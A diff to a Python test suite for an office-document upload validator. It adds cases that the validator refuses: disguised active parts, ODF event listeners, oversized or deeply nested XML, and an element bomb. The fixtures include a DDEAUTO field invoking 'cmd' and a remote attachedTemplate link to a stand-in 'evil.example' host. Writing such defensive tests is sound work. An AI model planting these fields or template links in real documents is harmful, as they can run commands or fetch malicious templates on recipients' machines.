@@ -1,11 +1,12 @@
 """Office documents: only what is plain paper is taken, whatever it is called."""
 
 import io
+import tracemalloc
 import zipfile
 from contextlib import suppress
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from shared.files import DOCX, ODS, ODT, XLSX
@@ -106,9 +107,63 @@ def locked() -> bytes:
     return bytes(data)
 
 
+FIELD = "<w:t xmlns:w='w'><w:instrText>DDEAUTO cmd</w:instrText></w:t>"
+MAIN_AS_TXT = f'<T><Override PartName="/WORD/document%2Etxt" ContentType="{MAIN}"/></T>'
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        a_docx(word__settings_dot_XML=FIELD),
+        a_docx(word___rels__settings_dot_xml_dot_RELS=relation("attachedTemplate", "https://evil.example/a.dotm")),
+        a_docx(word__document_dot_txt=FIELD, **{"[Content_Types]_dot_xml": MAIN_AS_TXT}),
+        a_docx(
+            word__media__a_dot_png=FIELD,
+            **{"[Content_Types]_dot_xml": MAIN_AS_TXT.replace("document%2Etxt", "media/A.png")},
+        ),
+        a_docx(word__notes_dot_txt="nobody knows what this is"),
+        a_docx(word__notes="nor this"),
+        an_odf(pages_dot_XML="<event-listener/>"),
+        an_odf(
+            pages_dot_txt="<event-listener/>",
+            manifest='<m><file-entry full-path="pages.txt" media-type="text/xml"/></m>',
+        ),
+    ],
+)
+def test_a_part_is_read_as_what_it_is_whatever_it_is_called(data: bytes) -> None:
+    with pytest.raises(BadOffice) as refused:
+        check_office(data)
+
+    assert refused.value.problem == "active"
+
+
+def test_a_small_upload_with_millions_of_elements_is_refused() -> None:
+    data = a_docx(**{f"word__header{n}_dot_xml": f"<w>{'<b/>' * 240_000}</w>" for n in range(12)})
+    assert len(data) < 150_000
+
+    with pytest.raises(BadOffice) as refused:
+        check_office(data)
+
+    assert refused.value.problem == "too_large"
+
+
+def test_what_was_read_of_a_part_is_not_kept() -> None:
+    data = a_docx("<w:b/>" * 100_000)
+    tracemalloc.start()
+    try:
+        check_office(data)
+        most = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+
+    assert most < 6 * 2**20
+
+
 @pytest.mark.parametrize(
     ("data", "problem"),
     [
+        (a_docx("<w:r>" * 600 + "</w:r>" * 600), "too_large"),
+        (a_docx(f"<w:t>{'a' * 9 * 2**20}</w:t>"), "too_large"),
         (OLE + bytes(600), "locked"),
         (locked(), "locked"),
         (an_odf(manifest="<m><encryption-data/></m>"), "locked"),
@@ -139,6 +194,7 @@ def test_a_polyglot_of_picture_and_document_is_no_document() -> None:
         check_office(b"\xff\xd8\xff\xe0" + a_docx())
 
 
+@settings(deadline=None)  # a machine may be busy with others
 @given(st.data())
 def test_a_damaged_document_never_ends_in_an_unexpected_error(data: st.DataObject) -> None:
     whole = bytearray(a_docx())
